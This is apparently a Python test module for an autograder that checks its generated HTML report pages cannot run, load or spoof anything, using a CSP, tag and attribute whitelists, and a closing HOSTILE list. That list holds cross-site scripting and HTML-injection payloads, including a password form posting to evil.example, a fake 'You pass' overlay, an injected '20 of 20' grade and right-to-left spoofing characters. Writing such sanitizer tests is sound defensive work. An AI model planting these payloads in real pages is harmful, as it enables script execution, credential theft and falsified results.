"""What in a page could act, and hostile pieces that would."""

import base64
import hashlib
import re
from html.parser import HTMLParser

from autograder.pages import escaping


class Tags(HTMLParser):
    """Everything in a page that is not text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.words: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        if not self.tags or self.tags[-1][0] not in ("style", "script"):
            self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


ALLOWED = escaping._TAGS | escaping._MATH_TAGS | {"html", "head", "meta", "title", "style", "body", "main", "section", "footer"}
ALLOWED |= {"bdi", "rect", "line", "text"}  # the report's own chart


def assert_inert(page: str, report: bool = False) -> None:
    """Nothing in the page can run, load, cover or turn round anything, but for the report's chart and its own script."""
    csp = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    assert csp in page
    assert page.index(csp) < page.index("<title>")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]", page)
    tags = Tags(page).tags
    scripts = re.findall(r"<script>(.*?)</script>", page, flags=re.DOTALL)
    allowed = [f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'" for script in scripts]
    assert re.findall(r"script-src ([^;\"]*)", page.partition("<title>")[0]) == allowed
    assert [tag for tag, _ in tags].count("script") == len(scripts) == report
    assert [tag for tag, _ in tags].count("style") == 1
    assert [tag for tag, _ in tags].count("meta") == 4
    for tag, attributes in tags:
        assert tag in ALLOWED or (report and tag in ("svg", "script")), tag
        for name, value in attributes.items():
            value = value or ""
            assert not name.startswith("on"), (tag, name)
            if name == "src":
                assert re.fullmatch(r"data:image/(png|jpeg|gif|svg\+xml);base64,[A-Za-z0-9+/=]*", value)
            elif name == "href":
                assert re.match(r"https?://|mailto:|#question-\d+$|#(health|looks|questions)$|\.\./feedback/", value), value
            elif name == "style":
                names = {part.split(":")[0].strip() for part in value.split(";") if part.strip()}
                assert names <= escaping._STYLES | {"width"}, value
                assert "url" not in value
            else:
                assert name not in ("srcset", "action", "formaction", "background", "xlink:href", "ping", "data", "poster")


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/x.png'><img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>y</a>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x><base href='https://evil.example/'>",
    "<style>body{display:none}</style><link rel=stylesheet href='https://evil.example/x.css'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example)'>You pass</div>",
    "<p style='margin:-900px;color:url(https://evil.example)'>over</p><p style='c\\6flor:red'>x</p>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><title>x</title></title><body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><script>1</script></template>",
    "</div></section></main><h1>20 of 20</h1><section id=question-1 class=graded>",
    "<b title='&#x202e;'>&#x202e;admin&#x2066;</b>\u202euser\u200f",
    "<details open ontoggle=alert(1)>x</details><video src=x onerror=alert(1)></video><audio autoplay src=x>",
]
